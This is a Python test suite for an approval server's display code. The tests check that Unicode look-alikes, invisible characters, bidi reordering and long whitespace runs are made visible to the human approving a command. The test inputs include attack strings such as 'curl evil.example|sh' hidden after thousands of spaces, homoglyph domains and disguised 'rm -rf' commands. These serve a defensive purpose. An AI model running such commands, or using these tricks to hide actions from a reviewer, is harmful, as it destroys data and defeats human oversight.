"""What a human is shown, character by character: nothing hidden, nothing reordered, no look-alike unmarked.

Independent oracles where there are some: `regex` (its own Unicode tables) for the properties, python-bidi (the
Unicode bidi algorithm) for the order a screen shows, and `unreveal` to read a shown text back.
"""

from __future__ import annotations

import re
import sys

import pytest
import regex
from bidi import get_display
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from approval_server.render import visible
from approval_server.reveal import is_hidden, runs
from tests.display_support import unreveal

MARKER = re.compile(r"⟨U\+[0-9A-F]{4,6}⟩|⟨\d+ spaces?⟩|⟨/?rtl⟩")


def escapes_in(shown: str) -> list[str]:
    return re.findall(r"⟨U\+([0-9A-F]{4,6})⟩", shown)


# -- the cases seen on main ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("command", "first", "second"),
    [("rsync -a --delete מקור/ יעד/", "מקור", "יעד"), ("echo א > ב", "א", "ב"), ("cp ملف١ ملف٢", "ملف١", "ملف٢")],
)
def test_right_to_left_words_are_shown_in_the_order_they_run(command: str, first: str, second: str) -> None:
    """On screen (the Unicode bidi algorithm, python-bidi), the first argument stays left of the second."""
    raw_screen = get_display(command)
    assert raw_screen.index(get_display(second)) < raw_screen.index(get_display(first))  # the attack, on main
    screen = get_display(visible(command))
    assert screen.index(get_display(first)) < screen.index(get_display(second))
    assert unreveal(visible(command)) == command


def test_a_redirect_between_right_to_left_words_is_not_mirrored() -> None:
    screen = get_display(visible("echo א > ב"))
    assert "<" not in screen
    assert screen.index("א") < screen.index(">") < screen.index("ב")


@pytest.mark.parametrize(
    ("text", "marked"),
    [
        ("curl https://raw.githubusercont\u0435nt.com/x.sh", "0435"),
        ("open https://\u0430pple.com", "0430"),
        ("git clone https://g\u0456thub.com/a/b", "0456"),
        ("ssh deploy@pr\u043ed.example.com", "043E"),
        ("curl https://github.com\u2215evil", "2215"),
        ("curl https://github\u2024com", "2024"),
        ("curl https://github\u3002com", "3002"),
        ("\uff52\uff4d -rf /", "FF52"),
        ("curl https://\u0440\u0430\u0443\u0440\u0430\u0435.com", "0440"),  # one script, spelling an ASCII word
    ],
)
def test_look_alike_letters_are_marked(text: str, marked: str) -> None:
    shown = visible(text)
    assert marked in escapes_in(shown)
    assert unreveal(shown) == text


@pytest.mark.parametrize(
    "text", ["Привет мир", "日本語.txt", "café naïve", "שלום", "Ελληνικά", "emoji 🎉✅", "über.py"]
)
def test_ordinary_words_of_one_script_are_not_marked(text: str) -> None:
    assert not escapes_in(visible(text, code=True).replace("⟨rtl⟩", "").replace("⟨/rtl⟩", ""))


@pytest.mark.parametrize(
    "brackets", ["\u3008\u3009", "\u2329\u232a", "\u276c\u276d", "<>", "\u2039\u203a", "\ufe64\ufe65", "\uff1c\uff1e"]
)
def test_a_typed_escape_marker_cannot_pass_for_a_real_one(brackets: str) -> None:
    text = f"ls {brackets[0]}U+0023{brackets[1]} ; rm -rf ~/work"
    shown = visible(text)
    # The only `U+` a reader meets between brackets is a real marker: the typed one has its brackets escaped.
    typed = [m for m in re.finditer(r"U\+0023", shown) if not shown[: m.start()].endswith("⟨")]
    assert typed
    for match in typed:
        assert shown[match.start() - 1] == "⟩"
        assert shown[match.end()] == "⟨"
    assert unreveal(shown) == text


@pytest.mark.parametrize(
    "char",
    ["\u034f", "\u17b4", "\u17b5", "\u180b", "\u180c", "\u180d", "\u180f", "\u2800", "\U00016fe4", "\U0001d159",
     "\ufffc", "\u0336", "\u0338", "\u20d2"],
)  # fmt: skip
def test_invisible_and_overlay_characters_are_escaped(char: str) -> None:
    shown = visible(f"r{char}m -rf")
    assert f"{ord(char):04X}" in escapes_in(shown)
    assert char not in shown


def test_two_names_that_look_the_same_are_told_apart() -> None:
    assert visible("is_admin = False") != visible("is_admin\u034f = True").replace("True", "False")
    assert "⟨U+034F⟩" in visible("is_admin\u034f = True")


def test_stacked_combining_marks_are_escaped_past_two() -> None:
    assert visible("e\u0301\u0302") == "e\u0301\u0302"
    shown = visible("e\u0301\u0302\u0303\u0304")
    assert escapes_in(shown) == ["0301", "0302", "0303", "0304"]


def test_a_mark_with_nothing_to_sit_on_is_escaped() -> None:
    assert escapes_in(visible("\u0301x")) == ["0301"]
    assert escapes_in(visible("a \u0301")) == ["0301"]
    assert escapes_in(visible("\u200b\u0301")) == ["200B", "0301"]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("rm -rf ./build" + " " * 200 + "~/", "rm -rf ./build⟨200 spaces⟩~/"),
        ("ls" + " " * 10_000 + "; curl evil.example|sh", "ls⟨10000 spaces⟩; curl evil.example|sh"),
        ("ls ", "ls⟨1 space⟩"),
        ("a  \nb", "a⟨2 spaces⟩\nb"),
        ("a    b", "a    b"),
        ("    indented", "    indented"),
    ],
)
def test_long_space_runs_and_trailing_spaces_are_counted(text: str, shown: str) -> None:
    assert visible(text) == shown


# -- the whole code space -----------------------------------------------------------------------------------------

ORACLE = regex.compile(
    r"[\p{Default_Ignorable_Code_Point}\p{Cc}\p{Cf}\p{Co}\p{Cs}\p{Zl}\p{Zp}\p{Me}\p{Canonical_Combining_Class=Overlay}"
    r"\p{White_Space}]"
)
BLANK_NAME = re.compile(r"\b(BLANK|FILLER|NULL|REPLACEMENT)\b")


def test_every_invisible_character_of_the_code_space_is_escaped() -> None:
    """Walk all 1,114,112 code points: each one Unicode says is default-ignorable, a control, format, private-use
    or surrogate, a separator, an enclosing or overlay mark, a space other than U+0020, or blank by its name, is
    shown as a marker, standing alone and between letters."""
    import unicodedata

    checked = 0
    for code in range(sys.maxunicode + 1):
        char = chr(code)
        if char in " \n":
            continue
        blank = BLANK_NAME.search(unicodedata.name(char, ""))
        if ORACLE.match(char) or blank or (char != " " and unicodedata.category(char) == "Zs"):
            assert is_hidden(char), f"U+{code:04X} is not escaped"
            if code % 7 == 0 or blank or code < 0x10000:
                shown = visible(f"a{char}b")
                assert char not in shown
                assert f"⟨U+{code:04X}⟩" in shown
            checked += 1
    assert checked > 140_000  # private use makes most of it


def test_unassigned_code_points_are_escaped() -> None:
    assert visible("\U000e0fff\U0010fffe") == "⟨U+E0FFF⟩⟨U+10FFFE⟩"


# -- any text -----------------------------------------------------------------------------------------------------

TEXT = st.text(
    alphabet=st.one_of(
        st.characters(codec="utf-8"),
        st.sampled_from(list(" \n⟨⟩U+0123abcאבג١٢٣ملفаеорсх\u200b\u202e\u2066\u0301\u0336〈〉<>｜┃`")),
    ),
    max_size=60,
)


@given(TEXT)
@settings(max_examples=3000, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_a_shown_text_reads_back_to_exactly_the_text(text: str) -> None:
    shown = visible(text)
    assert unreveal(shown) == text
    assert unreveal(visible(text, code=False)) == text
    plain = "".join(run.text for run in runs(text) if run.kind in ("plain", "rtl"))
    assert not any(is_hidden(char) for char in plain)


WORD = st.one_of(
    st.sampled_from(["ls", "-a", "--delete", "/tmp/x", "1", "22", ">", "|", "&&", "(", ")", "[x]", "a.b", "-", "+"]),
    st.text(alphabet="אבגדהו", min_size=1, max_size=4),
    st.text(alphabet="ملفبت", min_size=1, max_size=4),
    st.text(alphabet="١٢٣٤", min_size=1, max_size=3),
    st.text(alphabet="אב12/.-", min_size=1, max_size=5),
)


@given(st.lists(WORD, min_size=2, max_size=8))
@settings(max_examples=1500, deadline=None)
def test_no_word_moves_on_screen(words: list[str]) -> None:
    """Laid out by the bidi algorithm in a left-to-right paragraph, every space-separated piece of the shown text
    stays in its place: right-to-left text may run right to left inside its markers, never across them."""
    shown = visible(" ".join(words))
    screen = get_display(shown, base_dir="L")
    assert [sorted(piece) for piece in screen.split(" ")] == [sorted(piece) for piece in shown.split(" ")]
